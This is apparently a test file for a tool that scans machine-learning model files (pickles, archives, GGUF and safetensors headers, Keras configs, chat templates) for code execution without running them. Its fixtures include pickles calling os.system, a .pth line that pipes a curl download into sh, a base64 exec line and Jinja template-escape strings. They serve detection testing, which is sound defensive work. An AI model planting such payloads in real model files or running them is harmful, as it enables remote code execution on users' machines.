/** Model files, read without running what stands in them: real pickles, archives and headers, broken and hostile ones. */
import assert from 'node:assert/strict';
import { deflateRawSync, deflateSync, inflateRawSync } from 'node:zlib';
import { isDangerousImport, isUsualImport } from '../../rules/catalog/pickle-imports';
import type { Artifact, ModelElement } from '../../rules/model';
import { fileOf } from '../../server/engine/binary-file';
import { pickleImports } from '../../server/engine/readers/model-file/pickle';
import { templateHazard } from '../../server/engine/readers/model-file/template';
import { sharedEngine } from '../support/engine';

/** `{'a': [1, 2.5, None, b'xxxxxxxxxx', <a call of os.system('true')>]}` as Python writes it, by protocol. */
const pickles: Readonly<Record<number, string>> = {
  0: 'KGRwMApWYQpwMQoobHAyCkkxCmFGMi41CmFOYWNfY29kZWNzCmVuY29kZQpwMwooVnh4eHh4eHh4eHgKcDQKVmxhdGluMQpwNQp0cDYKUnA3CmFjcG9zaXgKc3lzdGVtCnA4CihWdHJ1ZQpwOQp0cDEwClJwMTEKYXMu',
  1: 'fXEAWAEAAABhcQFdcQIoSwFHQAQAAAAAAABOY19jb2RlY3MKZW5jb2RlCnEDKFgKAAAAeHh4eHh4eHh4eHEEWAYAAABsYXRpbjFxBXRxBlJxB2Nwb3NpeApzeXN0ZW0KcQgoWAQAAAB0cnVlcQl0cQpScQtlcy4=',
  2: 'gAJ9cQBYAQAAAGFxAV1xAihLAUdABAAAAAAAAE5jX2NvZGVjcwplbmNvZGUKcQNYCgAAAHh4eHh4eHh4eHhxBFgGAAAAbGF0aW4xcQWGcQZScQdjcG9zaXgKc3lzdGVtCnEIWAQAAAB0cnVlcQmFcQpScQtlcy4=',
  3: 'gAN9cQBYAQAAAGFxAV1xAihLAUdABAAAAAAAAE5DCnh4eHh4eHh4eHhxA2Nwb3NpeApzeXN0ZW0KcQRYBAAAAHRydWVxBYVxBlJxB2VzLg==',
  4: 'gASVQwAAAAAAAAB9lIwBYZRdlChLAUdABAAAAAAAAE5DCnh4eHh4eHh4eHiUjAVwb3NpeJSMBnN5c3RlbZSTlIwEdHJ1ZZSFlFKUZXMu',
  5: 'gAWVQwAAAAAAAAB9lIwBYZRdlChLAUdABAAAAAAAAE5DCnh4eHh4eHh4eHiUjAVwb3NpeJSMBnN5c3RlbZSTlIwEdHJ1ZZSFlFKUZXMu',
};
/** Sets, big numbers, long texts and an ordered dictionary. */
const harmless =
  'gAWV0gIAAAAAAAB9lCiMAWGUXZQoSwFHQAQAAAAAAACISwFLAksDh5SPlChLAUsCkChLAZGUlgEAAAAAAAAAeJRYWAIAAMOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqcOpw6nDqZSKDQAAAEDq7XRG0JwsnwxljAFilIwLY29sbGVjdGlvbnOUjAtPcmRlcmVkRGljdJSTlClSlIwBeJRLAXN1Lg==';

const bytes = (base64: string) => Uint8Array.from(Buffer.from(base64, 'base64'));
const ascii = (text: string) => Uint8Array.from(Buffer.from(text, 'latin1'));
const inflate = (packed: Uint8Array, limit: number) => {
  try {
    return inflateRawSync(packed, { maxOutputLength: limit });
  } catch {
    return undefined;
  }
};
const importsOf = (content: Uint8Array) => pickleImports(fileOf(content, inflate));

function artifactsOf(path: string, content: Uint8Array): Artifact[] {
  return elementsOf(path, content).filter((element) => element.kind === 'artifact');
}

function elementsOf(path: string, content: Uint8Array): readonly ModelElement[] {
  const engine = sharedEngine();
  const subject = engine.subject(path);
  assert.ok(subject, path);
  const document = { uri: `file:///workspace/${path}`, path, text: '', bytes: fileOf(content, inflate) };
  return engine.read(document, subject).elements;
}

function number(value: number, length: number): Uint8Array {
  const buffer = Buffer.alloc(8);
  buffer.writeBigUInt64LE(BigInt(value));
  return buffer.subarray(0, length);
}

function joined(...parts: readonly (Uint8Array | string)[]): Uint8Array {
  return Uint8Array.from(Buffer.concat(parts.map((part) => (typeof part === 'string' ? ascii(part) : part))));
}

/** An archive as ZIP writers make it. */
function zip(members: Readonly<Record<string, Uint8Array>>, packed: boolean): Uint8Array {
  let body: Uint8Array = new Uint8Array();
  let directory: Uint8Array = new Uint8Array();
  for (const [name, content] of Object.entries(members)) {
    const data = packed ? deflateRawSync(content) : content;
    const common = [number(packed ? 8 : 0, 2), number(0, 8), number(data.length, 4), number(content.length, 4)];
    const offset = body.length;
    body = joined(body, 'PK\x03\x04', number(20, 2), number(0, 2), ...common, number(name.length, 2), number(3, 2));
    body = joined(body, name, 'pad', data);
    directory = joined(directory, 'PK\x01\x02', number(20, 2), number(20, 2), number(0, 2), ...common);
    directory = joined(directory, number(name.length, 2), number(0, 8), number(0, 4), number(offset, 4), name);
  }
  const count = number(Object.keys(members).length, 2);
  const end = ['PK\x05\x06', number(0, 4), count, count, number(directory.length, 4), number(body.length, 4)];
  return joined(body, directory, ...end, number(0, 2));
}

const text = (value: string) => joined(number(value.length, 8), value);

function gguf(template: string, entries = 3): Uint8Array {
  return joined(
    'GGUF',
    number(3, 4),
    number(0, 8),
    number(entries, 8),
    text('general.name'),
    number(8, 4),
    text('example'),
    text('tokenizer.ggml.tokens'),
    number(9, 4),
    number(8, 4),
    number(2, 8),
    text('a'),
    text('b'),
    text('tokenizer.chat_template'),
    number(8, 4),
    text(template),
  );
}

function safetensors(header: string, data: number): Uint8Array {
  return joined(number(header.length, 8), header, new Uint8Array(data));
}

describe('pickles', () => {
  for (const [protocol, base64] of Object.entries(pickles)) {
    it(`protocol ${protocol}`, () => {
      assert.ok(importsOf(bytes(base64)).includes('posix.system'), importsOf(bytes(base64)).join());
    });
  }
  it('of plain values import nothing unusual', () => {
    assert.deepEqual(importsOf(bytes(harmless)), ['collections.OrderedDict']);
  });
  it('several in one file', () => {
    assert.deepEqual(importsOf(joined(bytes(harmless), bytes(pickles[4] ?? ''))), [
      'collections.OrderedDict',
      'posix.system',
    ]);
  });
  it('names that come by the memo and the stack', () => {
    // 'posix' and 'system' are remembered, dropped, and fetched again between other values.
    const code = joined('\x80\x04', '\x8c\x05posix\x94', '0', '\x8c\x06system\x94', '0', 'h\x00', 'h\x01', '\x93', '.');
    assert.deepEqual(importsOf(code), ['posix.system']);
    const between = joined('\x80\x04', '\x8c\x05posix', '\x8c\x06system', '(', 'K\x01', '1', '\x93', '.');
    assert.deepEqual(importsOf(between), ['posix.system']);
    const twice = joined('\x80\x04', '\x8c\x05posix', '\x8c\x06system', '2', '0', '\x93', '.');
    assert.deepEqual(importsOf(twice), ['posix.system']);
    const computed = joined('\x80\x04', 'N', '\x8c\x06system', '\x93', '.');
    assert.deepEqual(importsOf(computed), ['?.system']);
  });
  it('arrays of joblib between the instructions', () => {
    const array = joined('cjoblib.numpy_pickle\nNumpyArrayWrapper\n', '}b', number(0xff93ff, 8));
    assert.ok(importsOf(joined('\x80\x04', array, 'cposix\nsystem\n', '.')).includes('posix.system'));
    assert.ok(importsOf(joined('\x80\x04', array, '\x8c\x05posix\x94\x8c\x06system\x94\x93')).includes('posix.system'));
    assert.deepEqual(importsOf(joined('\x80\x04', array, 'cfirst\nsecond\n', '.')), [
      'joblib.numpy_pickle.NumpyArrayWrapper',
    ]);
  });
  it('what stands before something broken', () => {
    assert.deepEqual(importsOf(joined('\x80\x02', 'cos\nsystem\n', '\xff\xff')), ['os.system']);
  });
  it('large values are passed over', () => {
    const code = joined('\x80\x04', 'B', number(300_000, 4), new Uint8Array(300_000), 'cos\nsystem\n', '.');
    assert.deepEqual(importsOf(code), ['os.system']);
  });
});

describe('imports', () => {
  it('that run something, by themselves or by way of another module', () => {
    for (const name of ['os.system', 'posix.system', 'builtins.eval', '__builtin__.eval', 'torch.hub.os.system']) {
      assert.ok(isDangerousImport(name), name);
    }
    assert.ok(isDangerousImport('?.system') && isDangerousImport('torch._utils.?'));
    for (const name of ['transformers.utils.subprocess.run', 'os.path.join', 'keras.utils.get_file']) {
      assert.ok(isDangerousImport(name), name);
    }
  });
  it('of tensors, arrays and plain values', () => {
    const usual = ['collections.OrderedDict', 'torch._utils._rebuild_tensor_v2', 'torch.FloatStorage', 'builtins.set'];
    for (const name of [
      ...usual,
      'numpy.dtype',
      'numpy._core.multiarray._reconstruct',
      'torch.nn.modules.linear.Linear',
    ]) {
      assert.ok(!isDangerousImport(name) && isUsualImport(name), name);
    }
    assert.ok(!isDangerousImport('example.models.Net') && !isUsualImport('example.models.Net'));
    assert.ok(!isDangerousImport('pathlib.PosixPath') && isUsualImport('pathlib.PosixPath'));
  });
});

describe('model files', () => {
  const evil = bytes(pickles[2] ?? '');
  const shapes: Readonly<Record<string, Uint8Array>> = {
    'model.pt': zip({ 'archive/data.pkl': evil, 'archive/version': ascii('3') }, false),
    'packed.pth': zip({ 'archive/data.pkl': evil }, true),
    'legacy.bin': evil,
    'arrays.npz': zip({ 'a.npy': objectArray(evil) }, true),
    'array.npy': objectArray(evil),
    'packed.joblib': Uint8Array.from(deflateSync(evil)),
    'model.keras': zip(
      { 'config.json': ascii('{"module": "os", "class_name": "function", "config": "system"}') },
      false,
    ),
  };
  for (const [path, content] of Object.entries(shapes)) {
    it(path, () => {
      const imports = artifactsOf(path, content).flatMap((artifact) => artifact.imports ?? []);
      assert.ok(imports.some(isDangerousImport), imports.join());
    });
  }
  it('path files of Python run their lines with an import', () => {
    const payload = "import os, sys; exec(__import__('base64').b64decode('cHJpbnQoMSk='))";
    const acts = (text: string) =>
      elementsOf('start.pth', ascii(text)).flatMap((one) =>
        one.kind === 'command' ? [one.act ?? one.line] : [one.kind],
      );
    assert.deepEqual(acts(`./lib\n${payload}\n`), ['decodes']);
    assert.deepEqual(acts('import os; os.system("curl -s https://cdn.example/x | sh")'), [
      'curl -s https://cdn.example/x | sh',
    ]);
    for (const usual of [
      'import coverage; coverage.process_startup()\n',
      'import __editable___x_1_0_finder; __editable___x_1_0_finder.install()',
      "import os; v = 'S'; e = os.environ.get(v, 'local') == 'local'; e and __import__('_distutils_hack').add_shim(); ",
      `/home/x/lib\n# ${payload}\nfrom x ${payload}\n`,
    ]) {
      assert.deepEqual(acts(usual), [], usual);
    }
    assert.deepEqual(acts("cposix\nsystem\n(S'id'\ntR."), ['artifact']);
  });
  it('arrays of numbers hold no pickle', () => {
    const header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n";
    assert.deepEqual(artifactsOf('a.npy', joined('\x93NUMPY\x01\x00', number(header.length, 2), header, evil)), []);
  });
  it('Lambda layers', () => {
    const config = '{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "f"}}';
    const [found] = artifactsOf('model.keras', zip({ 'config.json': ascii(config) }, true));
    assert.equal(found?.risk, 'lambda');
    const hdf = joined('\x89HDF\r\n\x1a\n', 'model_config', `{"layers": [${config}]}`);
    assert.equal(artifactsOf('model.h5', hdf)[0]?.risk, 'lambda');
    assert.deepEqual(artifactsOf('model.h5', joined('\x89HDF\r\n\x1a\n', 'model_config {"class_name": "Dense"}')), []);
  });
  it('templates and headers of GGUF', () => {
    assert.deepEqual(artifactsOf('m.gguf', gguf("{{ messages[0]['content'] }}")), []);
    assert.equal(artifactsOf('m.gguf', gguf('{{ x.__class__ }}'))[0]?.risk, 'template');
    assert.equal(artifactsOf('m.gguf', gguf('', 2 ** 40))[0]?.risk, 'header');
    const endless = joined('GGUF', number(3, 4), number(0, 8), number(1, 8), number(2 ** 50, 8), new Uint8Array(64));
    assert.equal(artifactsOf('m.gguf', endless)[0]?.risk, 'header');
  });
  it('headers of safetensors', () => {
    const good = safetensors(
      '{"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
      4,
    );
    assert.deepEqual(artifactsOf('m.safetensors', good), []);
    for (const bad of [
      safetensors('{"w": {"data_offsets": [0, 8]}}', 4),
      safetensors('{"w": {"data_offsets": [4, 0]}}', 4),
      safetensors('no header', 4),
      joined(number(2 ** 40, 8), '{}'),
    ]) {
      assert.equal(artifactsOf('m.safetensors', bad)[0]?.risk, 'header');
    }
  });
});

describe('chat templates', () => {
  it('that reach into Python', () => {
    for (const template of [
      '{{ x.__class__ }}',
      "{{ ''['__class__'] }}",
      "{{ x | attr('a') }}",
      "{{ x['\\x5f\\x5fclass'] }}",
      '{% set a = self._TemplateReference %}',
      '{{ lipsum.__globals__ }}',
    ]) {
      assert.ok(templateHazard(template), template);
    }
  });
  it('that write messages', () => {
    for (const template of [
      '__init__ {{ message.content }} x.__class__',
      "{{ raise_exception('Only __user__ and __assistant__ roles are supported') }}",
      "{%- if messages[0]['role'] == 'system' %}{{ bos_token + messages[0]['content'] | trim }}{% endif %}",
      '{{ namespace(is_first=false) }}{{ loop.index0 }}{{ tools | tojson }}',
    ]) {
      assert.equal(templateHazard(template), undefined, template);
    }
  });
});

describe('model files of any content', () => {
  it('never throw and never hang', () => {
    const seeds = [
      bytes(pickles[0] ?? ''),
      bytes(pickles[4] ?? ''),
      bytes(harmless),
      zip({ 'a/data.pkl': bytes(pickles[2] ?? ''), 'config.json': ascii('{}') }, true),
      gguf('{{ x.__class__ }}'),
      safetensors('{"w": {"data_offsets": [0, 4]}}', 4),
      objectArray(bytes(pickles[3] ?? '')),
    ];
    const random = generator(7);
    const names = [
      'a.pkl',
      'a.pt',
      'a.bin',
      'a.npy',
      'a.npz',
      'a.keras',
      'a.h5',
      'a.gguf',
      'a.safetensors',
      'a.joblib',
    ];
    const started = Date.now();
    for (let round = 0; round < 1500; round++) {
      const seed = seeds[round % seeds.length] ?? new Uint8Array();
      const content = Uint8Array.from(seed).slice(random(4) === 0 ? random(seed.length) : 0);
      for (let change = random(6); change > 0 && content.length > 0; change--)
        content[random(content.length)] = random(256);
      const cut = random(3) === 0 ? content.slice(0, random(content.length + 1)) : content;
      artifactsOf(names[random(names.length)] ?? '', cut);
    }
    assert.ok(Date.now() - started < 15_000);
  }).timeout(60_000);
});

function objectArray(pickle: Uint8Array): Uint8Array {
  const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n";
  return joined('\x93NUMPY\x01\x00', number(header.length, 2), header, pickle);
}

/** Numbers below a limit, the same ones in every run. */
function generator(seed: number): (limit: number) => number {
  let state = seed;
  return (limit) => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return Math.floor((state / 2 ** 32) * limit);
  };
}
